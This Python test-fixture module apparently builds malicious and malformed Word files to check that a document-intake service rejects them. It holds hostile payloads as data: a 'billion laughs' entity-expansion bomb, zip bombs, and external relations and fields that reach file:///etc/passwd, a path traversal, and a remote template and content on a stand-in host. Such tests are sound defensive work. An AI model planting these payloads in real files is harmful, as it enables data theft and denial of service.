"""Files that somebody made to do harm, or that an accident broke: each with what must become of it at the door.

`expect` is the id of the refusal, or READ for what is read, perhaps with a note. Here is how they are made; the files
stand in `evil_word`, packages and data in `evil_packages`.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from intake.filing.package import sha256
from intake.filing.xml import escaped
from tests.filing.forms import making
from tests.filing.forms.making import c, docx, p, r, relation, tbl
from tests.filing.forms.making import packed as zipped
from tests.importing.zips import Entry, bomb, packed

READ = "read"


@dataclass(frozen=True)
class Evil:
    """One file or folder: its name, how it is made at a place, what becomes of it, and the door that it comes to."""

    name: str
    make: Callable[[Path], object]
    expect: str
    door: str = "import"


def word(name: str, data: Callable[[], bytes], expect: str) -> Evil:
    """A file under the name .docx."""
    return Evil(f"{name}.docx", lambda path: path.write_bytes(data()), expect)


HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'
DOC = f'<w:document xmlns:w="{making.W}" xmlns:r="{making.R}"><w:body>'.encode()
END = b"</w:body></w:document>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ROW = tbl([c("2.01"), c("Operator"), c("Example Grid Company")])
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
LAUGHS = b"<!DOCTYPE d [<!ENTITY a0 'ha'>" + b"".join(
    b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
)


def parts(body: str = ROW, **more: bytes) -> dict[str, bytes]:
    return making.parts(body) | {name.replace("__", "/"): data for name, data in more.items()}


def main(xml: bytes) -> bytes:
    """A Word file whose main part is this."""
    return zipped(parts() | {"word/document.xml": xml})


def raw(*extra: Entry, **changed: object) -> bytes:
    """A Word file made by hand: with these entries more, and its main part's entry changed."""
    entries = [Entry(name.encode(), data) for name, data in parts().items()]
    entry = next(e for e in entries if e.name == b"word/document.xml")
    for name, value in changed.items():
        setattr(entry, name, value)
    return packed([*entries, *extra])


def huge(size: int, *, said: int | None = None, beginning: bytes = b"<w:p><w:r><w:t>", filling: bytes = b"a") -> bytes:
    data, length = bomb(size, HEAD + DOC + beginning, END, filling)
    return raw(packed=data, size=length if said is None else said)


def other_part(name: str, kind: str, xml: bytes, body: str = ROW) -> bytes:
    """A Word file with a part beside the main one, which it is related to."""
    made = making.parts(body, {f"word/{name}": xml}, relations=relation("rId9", kind, name))
    return zipped(made)


def at_the_root(name: str, kind: str, xml: bytes) -> bytes:
    """A Word file with a part that the package is related to: its properties."""
    made = parts() | {name: xml}
    made["_rels/.rels"] = made["_rels/.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId8" Type="{making._OFFICE}/{kind}" Target="{name}"/></Relationships>'.encode(),
    )
    return zipped(made)


def baseline(text: str, *, digest: str | None = None, doctype: str = "") -> bytes:
    """A Word file with a baseline part that says this."""
    said = digest or sha256(text.encode(errors="replace"))
    xml = f'<?xml version="1.0"?>{doctype}<baseline xmlns="urn:intake:baseline:1" sha256="{said}">{escaped(text)}</baseline>'
    made = making.parts(
        ROW, {"customXml/item1.xml": xml.encode()}, relations=relation("rId7", "customXml", "../customXml/item1.xml")
    )
    return zipped(made)


def told(**changed: object) -> str:
    """A baseline as ours are, with members changed."""
    answer = {"value": "yes", "status": "answered", "reason": None, "number": "2.01"}
    data: dict[str, object] = {"intake": 1, "case": "c-1", "regime": "cn-2022", "content": "sha256:" + "0" * 64}
    data |= {"head": "0" * 64, "document": "declaration", "lang": "en", "answers": {"operator.name": answer}}
    return json.dumps(data | changed)


def doctype(inner: bytes, text: bytes = b"&x;") -> bytes:
    return HEAD + b"<!DOCTYPE d [" + inner + b"]>" + DOC + b"<w:p><w:r><w:t>" + text + b"</w:t></w:r></w:p>" + END


def shifted(good: bytes) -> bytes:
    """A zip with some bytes of the packed main part turned over."""
    place = good.index(b"word/document.xml") + len("word/document.xml") + 5
    return good[:place] + bytes(b ^ 0x55 for b in good[place : place + 30]) + good[place + 30 :]


def nested(levels: int) -> str:
    inner = p("x")
    for _ in range(levels):
        inner = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{inner}{p()}</w:tc></w:tr></w:tbl>"
    return inner


def spans(value: str) -> str:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{value}"/></w:tcPr>{p("Operator")}</w:tc>'
    before = f'<w:trPr><w:gridBefore w:val="{value}"/><w:gridAfter w:val="{value}"/></w:trPr>'
    return f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr>{before}{cell}{c('Example')}</w:tr></w:tbl>"


def reaching_out() -> bytes:
    body = ROW + p('<w:fldSimple w:instr=" INCLUDETEXT http://192.0.2.1/x ">' + r("x") + "</w:fldSimple>")
    relations = (
        relation("r1", "image", "file:///etc/passwd", external=True)
        + relation("r2", "attachedTemplate", "\\\\192.0.2.1\\share\\x.dotm", external=True)
        + relation("r3", "header", "../../../../etc/passwd")
        + relation("r4", "aFChunk", "http://192.0.2.1/x.html", external=True)
    )
    return docx(body + '<w:altChunk r:id="r4"/>', relations=relations)


def noise(size: int) -> bytes:
    return random.Random(7).randbytes(size)


def letters(size: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz012345") -> str:
    """Text that does not pack well."""
    return "".join(random.Random(7).choices(alphabet, k=size))


def recorded(count: int) -> str:
    said = 'w:author="x" w:date="2026-01-01T00:00:00Z"'
    both = "".join(
        f'<w:ins w:id="{n}" {said}>{r("a")}</w:ins><w:del w:id="{n}" {said}><w:r><w:delText>b</w:delText></w:r></w:del>'
        for n in range(count)
    )
    return tbl([c("2.01"), c("Operator"), f"<w:tc><w:tcPr/><w:p>{both}</w:p></w:tc>"])


def remarks(count: int) -> bytes:
    said = f'<w:comments xmlns:w="{making.W}">'
    said += "".join(f'<w:comment w:id="{n}" w:author="x">{p("y")}</w:comment>' for n in range(count)) + "</w:comments>"
    marks = "".join(f'<w:r><w:commentReference w:id="{n}"/></w:r>' for n in range(count))
    body = tbl([c("2.01"), c("Operator"), f"<w:tc><w:tcPr/><w:p>{marks}</w:p></w:tc>"])
    return other_part("comments.xml", "comments", said.encode(), body)
